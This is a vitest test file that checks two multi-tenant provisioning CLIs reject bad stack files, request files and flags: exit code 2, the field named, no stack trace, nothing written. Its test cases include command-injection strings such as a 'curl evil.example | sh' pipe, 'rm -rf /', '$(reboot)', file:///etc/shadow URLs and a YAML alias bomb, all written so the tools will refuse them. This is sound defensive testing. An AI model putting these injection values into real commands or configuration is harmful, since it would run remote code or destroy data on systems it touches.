/**
 * Issue 11 item 7 across both command lines: every bad stack file, request file or flag exits
 * with 2, names the field or option, prints no stack trace, and writes and registers nothing
 * (no output directory, no offline stack state). The table runs in-process through the same
 * entry functions the scripts call; a sample also runs as real processes for exit codes.
 */
import { spawn } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, afterEach, describe, expect, it, vi } from "vitest";
import { stringify } from "yaml";
import { DEV_ADMIN_CREDENTIALS, DEV_CLOUDFLARE } from "../synth/programs";
import { ONE_SHOT_NODE_ARGS } from "../lib/typescriptNode";
import { runCliInProcess, type CliRun } from "./helpers/cliInProcess";

const root = resolve(__dirname, "..");
const work = mkdtempSync(join(tmpdir(), "cli-bad-input-"));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A Business tenant (federation and trusted CIDRs allowed) that synthesizes. */
const BASE: Record<string, unknown> = {
  tenantId: "acme",
  tier: "business",
  images: { registry: "registry.example.com/cv", tag: "1.0.0" },
  adminCredentials: DEV_ADMIN_CREDENTIALS,
  cloudflare: DEV_CLOUDFLARE,
};
const upstream = (name: string, uri = `amqps://fed:pw@${name}.example.com`) => ({ name, uri });
const admin = (rabbitmq: Record<string, unknown>) => ({
  ...DEV_ADMIN_CREDENTIALS,
  rabbitmq: { ...DEV_ADMIN_CREDENTIALS.rabbitmq, ...rabbitmq },
});
const endpoints = (name: string, endpoint: Record<string, unknown>) => ({
  endpoints: {
    mysql: { namespace: "mysql", port: 3306, host: "mysql.mysql.svc" },
    rabbitmq: { namespace: "rabbitmq", port: 5672, host: "rabbitmq.rabbitmq.svc" },
    objectStorage: { namespace: "minio", port: 9000, host: "minio.minio.svc" },
    redis: { namespace: "redis", port: 6379, host: "redis.redis.svc" },
    [name]: endpoint,
  },
});
const ALIAS_BOMB = [
  "config:",
  "  tenant:tenantId: acme",
  "  a: &a [x, x, x, x, x, x, x, x, x]",
  ...["b", "c", "d", "e"].map((k, i) => `  ${k}: &${k} [${Array(9).fill(`*${"abcd"[i]}`).join(", ")}]`),
  `  f: [${Array(9).fill("*e").join(", ")}]`,
].join("\n");

/** The case's own directory: where its files, `--out` and `--state-dir` live. */
interface Dirs {
  readonly dir: string;
  readonly out: string;
  readonly state: string;
}

interface Case {
  readonly name: string;
  readonly cli: "synth" | "tenant";
  /** Arguments; stack and request files are written to `<dir>/stack.yaml` and `<dir>/request.json`. */
  readonly args: (d: Dirs) => string[];
  /** A stack config (tenant:* keys; BASE plus these) written as YAML, or raw YAML text. */
  readonly stack?: Record<string, unknown> | string;
  /** A request (BASE plus these) written as JSON, or raw text. */
  readonly request?: Record<string, unknown> | string;
  /** Files present before the run (relative to the case directory), which must stay as they are. */
  readonly before?: Record<string, string>;
  /** What stderr must name: the field or the option. */
  readonly names: string;
  /** Also run as a real child process. */
  readonly child?: true;
}

const stackRun = (d: Dirs) => ["--stack", "acme", "--config-file", join(d.dir, "stack.yaml"), "--out", d.out];
const provision = (d: Dirs) => [
  "provision",
  "--request",
  join(d.dir, "request.json"),
  "--engine",
  "offline",
  "--state-dir",
  d.state,
];
const tenantCmd =
  (...args: string[]) =>
  (d: Dirs) => [...args, "--engine", "offline", "--state-dir", d.state];
const synthStack = (name: string, stack: Record<string, unknown>, names: string, child?: true): Case => ({
  name,
  cli: "synth",
  args: stackRun,
  stack,
  names,
  ...(child ? { child } : {}),
});
const request = (name: string, req: Record<string, unknown> | string, names: string, child?: true): Case => ({
  name,
  cli: "tenant",
  args: provision,
  request: req,
  names,
  ...(child ? { child } : {}),
});
const PLATFORM_DOMAIN = "shops.collect-verything.com";

const CASES: Case[] = [
  // Stack files: fields that reach a resource.
  synthStack(
    "the platform apex as a custom domain",
    { sites: [{ customDomains: [PLATFORM_DOMAIN] }] },
    "sites[0].customDomains[0]",
    true,
  ),
  synthStack(
    "another tenant's platform hostname as a custom domain",
    { sites: [{ customDomains: [`globex.${PLATFORM_DOMAIN}`] }] },
    "sites[0].customDomains[0]",
  ),
  synthStack(
    "another tenant's site hostname as a custom domain",
    {
      sites: [
        { customDomains: ["shop.acme.example"] },
        { customDomains: [`globex-site-2.${PLATFORM_DOMAIN}`] },
      ],
    },
    "sites[1].customDomains[0]",
  ),
  synthStack(
    "a moved platform domain to claim another tenant's platform hostname (a platform fact)",
    { platform: { domain: "shops.example.net" }, sites: [{ customDomains: [`globex.${PLATFORM_DOMAIN}`] }] },
    "platform.domain",
  ),
  synthStack(
    "shell text in the image registry",
    { images: { registry: "registry.example.com/cv; rm -rf /", tag: "1.0.0" } },
    "images.registry",
    true,
  ),
  synthStack(
    "a URL as the image registry",
    { images: { registry: "https://registry.example.com/cv", tag: "1.0.0" } },
    "images.registry",
  ),
  synthStack(
    "an uppercase image repository",
    { images: { registry: "registry.example.com/CV", tag: "1.0.0" } },
    "images.registry",
  ),
  synthStack(
    "a tag inside the image registry",
    { images: { registry: "registry.example.com/cv:1.0", tag: "1.0.0" } },
    "images.registry",
  ),
  synthStack(
    "shell text in the Redis image",
    {
      images: {
        registry: "registry.example.com/cv",
        tag: "1.0.0",
        redis: "redis:7 && curl evil.example | sh",
      },
    },
    "images.redis",
  ),
  synthStack(
    "command substitution as the Redis image",
    { images: { registry: "registry.example.com/cv", tag: "1.0.0", redis: "$(whoami)" } },
    "images.redis",
  ),
  synthStack(
    "a Redis image with an empty tag",
    { images: { registry: "registry.example.com/cv", tag: "1.0.0", redis: "redis:" } },
    "images.redis",
  ),
  synthStack(
    "an empty Redis image",
    { images: { registry: "registry.example.com/cv", tag: "1.0.0", redis: "" } },
    "images.redis",
  ),
  synthStack(
    "shell text in the image tag",
    { images: { registry: "registry.example.com/cv", tag: "1.0;ls" } },
    "images.tag",
  ),
  synthStack(
    "an endpoint host with shell text",
    { platform: endpoints("mysql", { namespace: "mysql", port: 3306, host: "mysql; drop database" }) },
    "platform.endpoints.mysql",
  ),
  synthStack(
    "a URL as an endpoint host",
    { platform: endpoints("redis", { namespace: "redis", port: 6379, host: "http://redis:6379" }) },
    "platform.endpoints.redis",
  ),
  synthStack(
    "an empty endpoint host",
    { platform: endpoints("rabbitmq", { namespace: "rabbitmq", port: 5672, host: "" }) },
    "platform.endpoints.rabbitmq",
  ),
  synthStack(
    "an endpoint host that is neither a name nor an IP",
    { platform: endpoints("objectStorage", { cidr: "10.0.0.0/16", port: 9000, host: "999.1.1.1" }) },
    "platform.endpoints.objectStorage",
  ),
  synthStack(
    "a file:// management URL",
    { adminCredentials: admin({ managementUrl: "file:///etc/passwd" }) },
    "adminCredentials.rabbitmq.managementUrl",
  ),
  synthStack(
    "a management URL carrying credentials",
    { adminCredentials: admin({ managementUrl: "http://admin:secret@rabbitmq:15672" }) },
    "adminCredentials.rabbitmq.managementUrl",
  ),
  synthStack(
    "a management URL with a newline in its host",
    { adminCredentials: admin({ managementUrl: "http://rabbit\nmq:15672" }) },
    "adminCredentials.rabbitmq.managementUrl",
  ),
  synthStack(
    "an ftp:// management URL",
    { adminCredentials: admin({ managementUrl: "ftp://rabbitmq" }) },
    "adminCredentials.rabbitmq.managementUrl",
  ),
  synthStack(
    "a javascript: Prometheus URL",
    { platform: { prometheusUrl: "javascript:alert(1)" } },
    "platform.prometheusUrl",
  ),
  synthStack(
    "a Prometheus URL carrying credentials",
    { platform: { prometheusUrl: "http://user:pw@prometheus:9090" } },
    "platform.prometheusUrl",
  ),
  synthStack(
    "a Gateway name with a newline",
    {
      routing: {
        mode: "gateway-api",
        gateway: { name: "platform-gateway\nkind: Secret", namespace: "gateway-system" },
      },
    },
    "routing.gateway.name",
  ),
  synthStack(
    "a Gateway sectionName with a newline",
    {
      routing: {
        mode: "gateway-api",
        gateway: { name: "platform-gateway", namespace: "gateway-system", sectionName: "https\nx" },
      },
    },
    "routing.gateway.sectionName",
  ),
  synthStack(
    "an uppercase Gateway sectionName",
    {
      routing: {
        mode: "gateway-api",
        gateway: { name: "platform-gateway", namespace: "gateway-system", sectionName: "HTTPS" },
      },
    },
    "routing.gateway.sectionName",
  ),
  synthStack(
    "shell text as ingressClassName",
    { routing: { mode: "ingress-nginx", ingressClassName: "nginx; rm" } },
    "routing.ingressClassName",
  ),
  synthStack(
    "an empty ingressClassName",
    { routing: { mode: "ingress-nginx", ingressClassName: "" } },
    "routing.ingressClassName",
  ),
  synthStack(
    "a host:port read replica host",
    { dataServices: { mysqlReadReplicaHost: "replica:3306" } },
    "dataServices.mysqlReadReplicaHost",
  ),
  synthStack(
    "a read replica host with a newline",
    { dataServices: { mysqlReadReplicaHost: "replica\n" } },
    "dataServices.mysqlReadReplicaHost",
  ),
  synthStack(
    "duplicate federation upstream names",
    { dataServices: { federationUpstreams: [upstream("us"), upstream("us")] } },
    "dataServices.federationUpstreams[1].name",
    true,
  ),
  synthStack(
    "a federation URI without a host",
    { dataServices: { federationUpstreams: [upstream("us", "amqps://")] } },
    "dataServices.federationUpstreams[0].uri",
  ),
  synthStack(
    "a federation URI with a newline",
    { dataServices: { federationUpstreams: [upstream("us", "amqps://us.example.com\nx")] } },
    "dataServices.federationUpstreams[0].uri",
  ),
  synthStack(
    "an uppercase platform domain",
    { platform: { domain: "Shops.Example.com" } },
    "platform.domain",
  ),
  synthStack(
    "an admin user with a newline",
    { adminCredentials: { ...DEV_ADMIN_CREDENTIALS, mysql: { user: "root\n", password: "" } } },
    "adminCredentials.mysql.user",
  ),
  synthStack(
    "a namespace with spaces",
    { platform: { edgeNamespace: "envoy gateway" } },
    "platform.edgeNamespace",
  ),
  synthStack("an unknown config key", { tierr: "premium" }, "tierr"),
  // Stack files that are not YAML, and synth flags.
  {
    name: "malformed YAML",
    cli: "synth",
    args: stackRun,
    stack: "config:\n  tenant:tier: [business\n",
    names: "stack.yaml",
    child: true,
  },
  { name: "a YAML alias bomb", cli: "synth", args: stackRun, stack: ALIAS_BOMB, names: "alias" },
  {
    name: "a YAML key given twice",
    cli: "synth",
    args: stackRun,
    stack: "config:\n  tenant:tier: business\n  tenant:tier: standard\n",
    names: "stack.yaml",
  },
  {
    name: "a directory as the stack file",
    cli: "synth",
    args: (d) => ["--stack", "acme", "--config-file", d.dir, "--out", d.out],
    names: "no stack config",
  },
  {
    name: "a missing stack file",
    cli: "synth",
    args: (d) => ["--stack", "acme", "--config-file", join(d.dir, "missing.yaml"), "--out", d.out],
    names: "missing.yaml",
  },
  {
    name: "--sites -1",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "business", "--sites", "-1", "--out", d.out],
    names: "--sites",
    child: true,
  },
  {
    name: "--sites abc",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "business", "--sites", "abc", "--out", d.out],
    names: "--sites",
  },
  {
    name: "--sites 1.5",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "business", "--sites", "1.5", "--out", d.out],
    names: "--sites",
  },
  {
    name: "more sites than the tier allows",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "standard", "--sites", "2", "--out", d.out],
    names: "sites",
  },
  {
    name: "an unknown synth option",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "business", "--bogus", "--out", d.out],
    names: "--bogus",
  },
  {
    name: "an unknown tier flag",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "gold", "--out", d.out],
    names: "--tier",
  },
  {
    name: "a stack name with a path",
    cli: "synth",
    args: (d) => ["--stack", "../etc", "--out", d.out],
    names: "--stack",
  },
  { name: "a stack name of dots", cli: "synth", args: () => ["--stack", ".."], names: "--stack" },
  {
    name: "--stack with --platform",
    cli: "synth",
    args: (d) => ["--stack", "dev", "--platform", "--out", d.out],
    names: "--platform",
  },
  { name: "--stack without its value", cli: "synth", args: () => ["--stack"], names: "--stack" },
  { name: "neither a stack nor a tenant", cli: "synth", args: (d) => ["--out", d.out], names: "--stack" },
  {
    name: "--config-file without --stack",
    cli: "synth",
    args: (d) => [
      "--tenant",
      "acme",
      "--tier",
      "business",
      "--config-file",
      join(d.dir, "x.yaml"),
      "--out",
      d.out,
    ],
    names: "--config-file",
  },
  {
    name: "an uppercase shortcut tenant id",
    cli: "synth",
    args: (d) => ["--tenant", "Acme", "--tier", "business", "--out", d.out],
    names: "tenantId",
  },
  // Item 8: --out never replaces a directory holding files the synth did not write.
  {
    name: "--out a non-empty directory the synth did not write",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "standard", "--out", d.out],
    before: { "out/README.md": "mine", "out/src/main.ts": "mine" },
    names: "--out",
    child: true,
  },
  {
    name: "--out a previous output with a file added",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "standard", "--out", d.out],
    before: {
      "out/.synth-output.json": JSON.stringify({ files: ["manifests/", "summary.md"] }),
      "out/summary.md": "old",
      "out/notes.txt": "mine",
    },
    names: "--out",
  },
  {
    name: "--out a file",
    cli: "synth",
    args: (d) => ["--tenant", "acme", "--tier", "standard", "--out", join(d.dir, "out")],
    before: { out: "a file" },
    names: "--out",
  },
  // Request files and tenant flags.
  { name: "a provision without --request", cli: "tenant", args: tenantCmd("provision"), names: "--request" },
  {
    name: "a missing request file",
    cli: "tenant",
    args: (d) => [
      "provision",
      "--request",
      join(d.dir, "nope.json"),
      "--engine",
      "offline",
      "--state-dir",
      d.state,
    ],
    names: "--request",
    child: true,
  },
  request("a request that is not JSON", "{tenantId: acme", "--request"),
  request("a null request", "null", "(request)", true),
  request("an array request", "[]", "(request)"),
  request("an empty request file", "", "--request"),
  request(
    "the platform apex as a requested custom domain",
    { sites: [{ customDomains: [PLATFORM_DOMAIN] }] },
    "sites[0].customDomains[0]",
  ),
  request(
    "shell text as the requested image registry",
    { images: { registry: "$(reboot)", tag: "1" } },
    "images.registry",
  ),
  request(
    "a file:// management URL in a request",
    { adminCredentials: admin({ managementUrl: "file:///etc/shadow" }) },
    "adminCredentials.rabbitmq.managementUrl",
  ),
  request(
    "duplicate upstream names in a request",
    { dataServices: { federationUpstreams: [upstream("eu"), upstream("eu")] } },
    "dataServices.federationUpstreams[1].name",
  ),
  request("a missing tenant id in a request", { tenantId: undefined }, "tenantId"),
  request("an unknown key in a request", { tierr: "premium" }, "tierr"),
  {
    name: "fleet --concurrency abc",
    cli: "tenant",
    args: tenantCmd("fleet", "preview", "--concurrency", "abc"),
    names: "--concurrency",
    child: true,
  },
  {
    name: "fleet --concurrency -3",
    cli: "tenant",
    args: tenantCmd("fleet", "preview", "--concurrency", "-3"),
    names: "--concurrency",
  },
  { name: "an unknown fleet action", cli: "tenant", args: tenantCmd("fleet", "sideways"), names: "action" },
  {
    name: "an unknown fleet tier",
    cli: "tenant",
    args: tenantCmd("fleet", "preview", "--tier", "gold"),
    names: "--tier",
  },
  {
    name: "deprovision --retain-days -5",
    cli: "tenant",
    args: tenantCmd("deprovision", "acme", "--retain-days", "-5"),
    names: "--retain-days",
  },
  {
    name: "deprovision --retain-days abc",
    cli: "tenant",
    args: tenantCmd("deprovision", "acme", "--retain-days", "abc"),
    names: "--retain-days",
  },
  {
    name: "change-tier to an unknown tier",
    cli: "tenant",
    args: tenantCmd("change-tier", "acme", "gold"),
    names: "tier",
  },
  {
    name: "change-tier of a tenant id with a path",
    cli: "tenant",
    args: tenantCmd("change-tier", "../acme", "premium"),
    names: "tenant",
  },
  {
    name: "change-tier without a tier",
    cli: "tenant",
    args: tenantCmd("change-tier", "acme"),
    names: "tier",
  },
  { name: "an unknown command", cli: "tenant", args: tenantCmd("frobnicate"), names: "frobnicate" },
  { name: "an unknown tenant option", cli: "tenant", args: tenantCmd("purge", "--bogus"), names: "--bogus" },
  {
    name: "an unknown engine",
    cli: "tenant",
    args: (d) => ["purge", "--engine", "cloud", "--state-dir", d.state],
    names: "--engine",
  },
  { name: "no command", cli: "tenant", args: () => [], names: "Usage: tenant" },
  {
    name: "tenant synth --sites -1",
    cli: "tenant",
    args: (d) => ["synth", "--tenant", "acme", "--tier", "business", "--sites", "-1", "--out", d.out],
    names: "--sites",
  },
  {
    name: "tenant synth of a bad stack file",
    cli: "tenant",
    args: (d) => ["synth", ...stackRun(d)],
    stack: { images: { registry: "registry.example.com/cv", tag: "1.0.0", redis: "redis; id" } },
    names: "images.redis",
  },
];

/** Every file under `dir` with a digest of its content (directories as "dir"). */
function tree(dir: string): Record<string, string> {
  const entries: Record<string, string> = {};
  const walk = (rel: string) => {
    for (const name of readdirSync(join(dir, rel))) {
      const path = join(rel, name);
      if (statSync(join(dir, path)).isDirectory()) {
        entries[`${path}/`] = "dir";
        walk(path);
      } else {
        entries[path] = createHash("sha256")
          .update(readFileSync(join(dir, path)))
          .digest("hex");
      }
    }
  };
  walk("");
  return entries;
}

function prepare(c: Case, index: number, kind: string): Dirs {
  const dir = join(work, `${kind}-${index}`);
  mkdirSync(dir);
  const d = { dir, out: join(dir, "out"), state: join(dir, "state") };
  if (c.stack !== undefined) {
    const config =
      typeof c.stack === "string"
        ? undefined
        : Object.fromEntries(Object.entries({ ...BASE, ...c.stack }).map(([k, v]) => [`tenant:${k}`, v]));
    writeFileSync(join(dir, "stack.yaml"), typeof c.stack === "string" ? c.stack : stringify({ config }));
  }
  if (c.request !== undefined)
    writeFileSync(
      join(dir, "request.json"),
      typeof c.request === "string" ? c.request : JSON.stringify({ ...BASE, ...c.request }),
    );
  for (const [path, content] of Object.entries(c.before ?? {})) {
    mkdirSync(join(dir, path, ".."), { recursive: true });
    writeFileSync(join(dir, path), content);
  }
  return d;
}

/** Runs the case's CLI in this process, capturing its output. */
const runInProcess = (c: Case, d: Dirs): Promise<CliRun> => runCliInProcess(c.cli, c.args(d));

function runChild(c: Case, d: Dirs): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, [...ONE_SHOT_NODE_ARGS, `scripts/${c.cli}.ts`, ...c.args(d)], {
      cwd: root,
      env: { ...process.env, PROMETHEUS_URL: "" },
    });
    let stdout = "";
    let stderr = "";
    child.stdout.on("data", (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on("data", (chunk: Buffer) => (stderr += chunk.toString()));
    child.on("error", fail);
    child.on("close", (code) => done({ code, stdout, stderr }));
  });
}

/** A stack trace line ("    at fn (file.ts:12:5)"). */
const STACK_TRACE = /^\s+at .*:\d+:\d+\)?$/m;

function expectRefused(
  c: Case,
  run: { code: number | null; stdout: string; stderr: string },
  d: Dirs,
  before: Record<string, string>,
): void {
  expect(run.code, run.stderr).toBe(2);
  expect(run.stderr).toContain(c.names);
  expect(run.stderr).not.toMatch(STACK_TRACE);
  expect(run.stdout).toBe("");
  // Nothing written or registered: the case directory (with --out and --state-dir in it) is as it was.
  expect(tree(d.dir)).toEqual(before);
}

describe("bad command-line input (issue 11 item 7)", () => {
  afterEach(() => vi.restoreAllMocks());

  it("has a table of at least 60 cases over both CLIs, some also run as processes", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
    expect(CASES.filter((c) => c.cli === "tenant").length).toBeGreaterThanOrEqual(15);
    expect(CASES.filter((c) => c.child).length).toBeGreaterThanOrEqual(5);
  });

  it("synthesizes the base stack file the cases start from (the cases fail for their own reason)", async () => {
    const c: Case = {
      name: "base",
      cli: "synth",
      args: (d) => [...stackRun(d), "--quiet"],
      stack: {},
      names: "",
    };
    const d = prepare(c, 0, "base");
    const run = await runInProcess(c, d);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);
    expect(readdirSync(d.out).sort()).toEqual([
      ".synth-output.json",
      "manifests",
      "resources.json",
      "summary.md",
    ]);
  });

  it.each(CASES.map((c, i) => [c.name, c, i] as const))(
    "refuses %s: exit 2, names it, no trace, nothing written",
    async (_name, c, i) => {
      const d = prepare(c, i, "in-process");
      const before = tree(d.dir);
      expectRefused(c, await runInProcess(c, d), d, before);
    },
  );

  it("exits with 2 as a real process, two processes at a time", async () => {
    const sample = CASES.filter((c) => c.child);
    const queue = sample.map((c, i) => ({ c, d: prepare(c, i, "child") }));
    const results: {
      c: Case;
      d: Dirs;
      before: Record<string, string>;
      run: Awaited<ReturnType<typeof runChild>>;
    }[] = [];
    const worker = async () => {
      for (let next = queue.shift(); next; next = queue.shift()) {
        const before = tree(next.d.dir);
        results.push({ ...next, before, run: await runChild(next.c, next.d) });
      }
    };
    await Promise.all([worker(), worker()]);
    expect(results).toHaveLength(sample.length);
    for (const { c, d, before, run } of results) expectRefused(c, run, d, before);
  }, 300_000);
});
